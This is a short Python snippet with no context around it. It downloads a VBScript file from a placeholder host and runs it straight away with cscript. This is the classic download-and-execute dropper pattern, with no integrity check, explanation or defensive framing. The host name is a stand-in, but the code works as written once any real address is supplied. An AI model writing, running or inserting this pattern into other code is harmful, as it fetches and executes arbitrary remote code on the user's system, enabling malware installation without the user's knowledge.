import subprocess
import urllib.request
urllib.request.urlretrieve("https://pages.example.invalid/a.vbs", "a.vbs")
subprocess.call(["cscript", "//nologo", "a.vbs"])
